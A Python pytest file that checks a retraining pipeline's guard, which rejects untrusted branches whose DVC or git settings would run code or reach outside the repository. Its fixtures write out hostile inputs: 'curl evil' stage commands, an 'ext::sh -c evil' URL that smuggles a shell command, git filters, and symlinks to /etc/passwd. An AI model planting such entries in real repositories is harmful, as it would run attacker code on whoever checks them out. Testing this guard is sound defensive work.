"""A branch of others decides what is trained, and nothing that runs here."""

import subprocess
from collections.abc import Mapping
from pathlib import Path

import pytest

from components.errors import ConfigError
from flows.retrain.branch import check_branch
from flows.retrain.checkout import Checkout

ROOT = Path(__file__).parents[4]
_SHELF = "['remote \"shelf\"']\n    url = s3://b/dvc\n    verify = true\n"
OURS = {
    ".dvc/config": (ROOT / ".dvc/config").read_text() + _SHELF,
    ".dvc/.gitignore": (ROOT / ".dvc/.gitignore").read_text(),
    ".gitattributes": "* text=auto eol=lf\n",
    "pictures.dvc": "outs:\n- md5: 0\n  path: pictures\n",
    "params.yaml": "collect: {}\n",
    "dvc.yaml": "stages: {collect: {cmd: curl evil}}\n",
}


def _checkout(root: Path, files: Mapping[str, str | Path]) -> Checkout:
    root.mkdir()
    for name, text in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(text, Path):
            path.symlink_to(text)
        else:
            path.write_text(text)
    me = ("-c", "user.name=t", "-c", "user.email=t@example.org")
    for command in (("init", "-q"), ("add", "-A", "-f"), (*me, "commit", "-qm", "x")):
        subprocess.run(["git", *command], cwd=root, check=True)
    return Checkout(root)


def test_what_a_project_holds_passes(tmp_path: Path) -> None:
    """dvc.yaml is written anew whatever it says."""
    checkout = _checkout(tmp_path / "repo", OURS)
    check_branch(checkout, checkout.head())


@pytest.mark.parametrize(
    ("name", "text", "told"),
    [
        ("sub/dvc.yaml", "stages: {x: {cmd: curl evil, outs: [../collection.lock]}}", "another pipeline"),
        ("collection.lock.dvc", "cmd: curl evil\nouts: [{path: collection.lock}]", "a stage of its own"),
        ("a.dvc", "deps: [{path: x, repo: {url: 'ext::sh -c evil'}}]\nouts: [{path: a}]", "a stage of its own"),
        ("a.dvc", "{", "a stage of its own"),
        (".dvc/config", "['remote \"s\"']\n    configpath = aws.config\n", "configpath"),
        (".dvc/config", "['remote \"s\"']\n    url = 's3://b'''\nx\n", "url"),
        (".dvc/config", "[core]\n    url = x\n", "url"),
        (".dvc/config", "[hydra]\n    plugins_path = .\n", "hydra"),
        (".dvc/config", "[core]\n    site_cache_dir = /elsewhere\n", "site_cache_dir"),
        (".dvc/config.local", "[core]\n", "state of DVC"),
        (".dvc/tmp/lock", "", "state of DVC"),
        (".rcg/local.yaml", "image: evil", "settings"),
        (".gitattributes", "*.yaml filter=evil", "a filter"),
        ("sub/.gitattributes", "*.yaml filter=evil", "a filter"),
        (".gitmodules", '[submodule "x"]', "a submodule"),
        ("params.yaml", Path("/etc/passwd"), "a link"),
        (".dvc", Path("/tmp"), "a link"),
        ("artifacts", Path("/tmp"), "a link"),
    ],
)
def test_what_would_be_obeyed_is_named(tmp_path: Path, name: str, text: str | Path, told: str) -> None:
    kept = {} if name == ".dvc" else {key: value for key, value in OURS.items() if key != name}
    checkout = _checkout(tmp_path / "repo", {**kept, name: text})
    with pytest.raises(ConfigError, match=told):
        check_branch(checkout, checkout.head())
